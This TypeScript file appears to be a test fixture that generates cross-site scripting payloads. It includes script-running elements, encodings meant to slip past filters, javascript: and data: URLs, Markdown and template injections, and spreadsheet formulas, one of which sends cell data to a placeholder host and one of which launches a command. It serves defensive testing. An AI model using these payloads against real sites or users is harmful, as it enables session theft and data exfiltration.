/**
 * Texts that run a script, load something foreign or add an element if any page, mail or file treats them as more than text:
 * contexts × vectors × encodings. A script calls `__xss()`, and every foreign address is on `xss.invalid`.
 */

/** The function that every payload calls; a browser test defines it and expects no call. */
export const XSS_CALL = '__xss()';

/** The host of every foreign address in a payload; the name never resolves (RFC 2606). */
export const XSS_HOST = 'xss.invalid';

/** Ends of the contexts into which a text can be inserted: an element, an attribute, a comment, raw text, CDATA. */
const CONTEXT_ENDS = ['', '">', "'>", '-->', '</textarea></title></style>', '</script>', ']]>'];

/** Elements that run a script or load something as soon as they are part of a page. */
const ELEMENTS = [
  `<script>${XSS_CALL}</script>`,
  `<script src=//${XSS_HOST}/a.js></script>`,
  `<script/type=module>${XSS_CALL}</script>`,
  `<img src=x onerror=${XSS_CALL}>`,
  `<img/src="https://${XSS_HOST}/a.png"/onload=${XSS_CALL}>`,
  `<svg onload=${XSS_CALL}>`,
  `<svg><script>${XSS_CALL}</script></svg>`,
  `<svg><animate onbegin=${XSS_CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${XSS_CALL}"><text y=9>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${XSS_CALL}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${XSS_CALL}>">`,
  `<math href="javascript:${XSS_CALL}">x</math>`,
  `<iframe src="javascript:parent.${XSS_CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${XSS_CALL}</script>"></iframe>`,
  `<object data="javascript:${XSS_CALL}"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${XSS_CALL}>">`,
  `<details open ontoggle=${XSS_CALL}>x</details>`,
  `<video><source onerror=${XSS_CALL}></video>`,
  `<input autofocus onfocus=${XSS_CALL}>`,
  `<b style="animation:x 1s" onanimationstart=${XSS_CALL}>x</b>`,
  `<form action="javascript:${XSS_CALL}"><button autofocus>x</button></form>`,
  `<base href=//${XSS_HOST}/>`,
  `<link rel=stylesheet href=//${XSS_HOST}/a.css>`,
  `<meta http-equiv=refresh content="0;url=//${XSS_HOST}/">`,
  `<style>@import'//${XSS_HOST}/a.css';</style>`,
  `<template shadowrootmode=open><img src=x onerror=${XSS_CALL}></template>`,
];

/** Short enough for fields of twenty characters. */
const SHORT = [
  '<i onclick=__xss()>',
  '"onload=__xss() "',
  "'-__xss()-'",
  '<script>__xss()//',
  '{{__xss()}}',
  '<svg/onload=__xss()',
];

/** Spellings of an element that filters of texts miss and parsers accept. */
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text.toUpperCase().replace(/__XSS/g, '__xss'),
  (text) => text.replace('<', '<\u200b'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll(' ', '\u000c'),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => `\u202e${text}\u202c`,
  (text) => text.replace('script', 'scr<script>ipt'),
];

const ENCODED_ELEMENTS = [ELEMENTS[0], ELEMENTS[3], ELEMENTS[5]].map(String);

/** Attributes that a text can add to the element whose attribute it is meant to fill. */
const ATTRIBUTES = ['"', "'", '`', '" ', "' /"].flatMap((quote) =>
  ['onfocus', 'onpointerenter', 'onanimationend'].map((name) => `x${quote}${name}=${XSS_CALL} autofocus x=${quote}`),
);

/** Addresses that run a script or open a foreign page with the rights of the app. */
const ADDRESSES = [
  `javascript:${XSS_CALL}`,
  `JaVaScRiPt:${XSS_CALL}`,
  ` javascript:${XSS_CALL}`,
  `java\tscript:${XSS_CALL}`,
  `java\nscript:${XSS_CALL}`,
  `\u0001javascript:${XSS_CALL}`,
  `javascript&colon;${XSS_CALL}`,
  `&#106;avascript:${XSS_CALL}`,
  `javascript:%5f%5fxss()`,
  `javascript://%0a${XSS_CALL}`,
  `data:text/html,<script>${XSS_CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+`,
  `vbscript:${XSS_CALL}`,
  `blob:null/${XSS_CALL}`,
  `view-source:javascript:${XSS_CALL}`,
];

/** The forms of Markdown that hold an address. */
const MARKDOWN: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "title")`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x]: ${address}\n\n[x]`,
  (address) => address,
];

const MARKDOWN_AND_HTML = [
  `![x](https://${XSS_HOST}/a.png)`,
  `![x" onerror="${XSS_CALL}](x)`,
  `[x](https://${XSS_HOST}/"onmouseover="${XSS_CALL})`,
  `[<img src=x onerror=${XSS_CALL}>](https://${XSS_HOST}/)`,
  `\`<img src=x onerror=${XSS_CALL}>\``,
  `\`\`\`"><script>${XSS_CALL}</script>\n<script>${XSS_CALL}</script>\n\`\`\``,
  `| <img src=x onerror=${XSS_CALL}> |\n|---|\n| <svg onload=${XSS_CALL}> |`,
  `# <script>${XSS_CALL}</script>`,
  `- [x] <iframe src=javascript:${XSS_CALL}>`,
  `> <b onclick=${XSS_CALL}>x</b>`,
];

/** Languages of templates and of styles that evaluate a part of a text. */
const EVALUATED = [
  `{{constructor.constructor('${XSS_CALL}')()}}`,
  `\${${XSS_CALL}}`,
  `<%= ${XSS_CALL} %>`,
  `#{${XSS_CALL}}`,
  `\`};${XSS_CALL};//`,
  `';${XSS_CALL};//`,
  `\\";${XSS_CALL};//`,
  `\u2028${XSS_CALL}\u2029`,
  `__proto__[onerror]=${XSS_CALL}`,
  `red;background:url(https://${XSS_HOST}/a)`,
  `expression(${XSS_CALL})`,
  `url("javascript:${XSS_CALL}")`,
  `x}</style><style>*{background:url(//${XSS_HOST}/)}`,
  `=HYPERLINK("https://${XSS_HOST}/?"&A1,"x")`,
  `@SUM(1+1)*cmd|'/c calc'!A0`,
];

/** Every payload, each once. */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([
    ...SHORT,
    ...CONTEXT_ENDS.flatMap((end) => ELEMENTS.map((element) => end + element)),
    ...ENCODINGS.flatMap((encode) => ENCODED_ELEMENTS.map(encode)),
    ...ATTRIBUTES,
    ...MARKDOWN.flatMap((form) => ADDRESSES.map(form)),
    ...MARKDOWN_AND_HTML,
    ...EVALUATED,
  ]),
];
